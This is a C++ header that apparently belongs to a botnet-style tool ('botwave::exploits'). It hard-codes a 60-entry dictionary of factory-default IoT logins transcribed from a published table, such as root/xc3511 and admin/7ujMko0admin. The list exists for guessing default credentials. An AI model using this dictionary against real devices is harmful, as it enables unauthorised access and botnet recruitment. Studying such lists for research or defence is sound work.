// credentials.hpp - the 60-pair factory-default login dictionary, read
// column by column off the published table. "(none)" entries are empty
// strings. "jvzld" and "Zie521" are kept exactly as printed even though
// they look like scanning artifacts of "jvbzd" and "Zte521"; the blank
// password in the right column's fifth row is "anko", the only entry that
// fits the column's alphabetical order (a blank there would duplicate the
// root/(none) pair).
#pragma once

#include <string>
#include <vector>

namespace botwave::exploits {

struct Credential {
    std::string username;
    std::string password;

    friend bool operator==(const Credential&, const Credential&) = default;
    friend auto operator<=>(const Credential&, const Credential&) = default;
};

inline const std::vector<Credential>& credential_dictionary() {
    static const std::vector<Credential> dict = {
        // left column
        {"666666", "666666"},
        {"888888", "888888"},
        {"admin", ""},
        {"admin", "1111"},
        {"admin", "1111111"},
        {"admin", "1234"},
        {"admin", "12345"},
        {"admin", "123456"},
        {"admin", "54321"},
        {"admin", "7ujMko0admin"},
        {"admin", "admin"},
        {"admin", "admin1234"},
        {"admin", "meinsm"},
        {"admin", "pass"},
        {"admin", "password"},
        {"admin", "smcadmin"},
        {"admin1", "password"},
        {"administrator", "1234"},
        {"Administrator", "admin"},
        {"guest", "12345"},
        {"guest", "guest"},
        {"mother", "fucker"},
        {"root", ""},
        {"root", "00000000"},
        {"root", "1111"},
        {"root", "1234"},
        {"root", "12345"},
        {"root", "123456"},
        {"root", "54321"},
        {"root", "666666"},
        // right column
        {"root", "7ujMko0admin"},
        {"root", "7ujMko0vizxv"},
        {"root", "888888"},
        {"root", "admin"},
        {"root", "anko"},
        {"root", "default"},
        {"root", "dreambox"},
        {"root", "hi3518"},
        {"root", "ikwb"},
        {"root", "juantech"},
        {"root", "jvzld"},
        {"root", "klv123"},
        {"root", "klv1234"},
        {"root", "pass"},
        {"root", "password"},
        {"root", "realtek"},
        {"root", "root"},
        {"root", "system"},
        {"root", "user"},
        {"root", "vizxv"},
        {"root", "xc3511"},
        {"root", "xmhdipc"},
        {"root", "zlxx"},
        {"root", "Zie521"},
        {"service", "service"},
        {"supervisor", "supervisor"},
        {"support", "support"},
        {"tech", "tech"},
        {"ubnt", "ubnt"},
        {"user", "user"},
    };
    return dict;
}

}  // namespace botwave::exploits
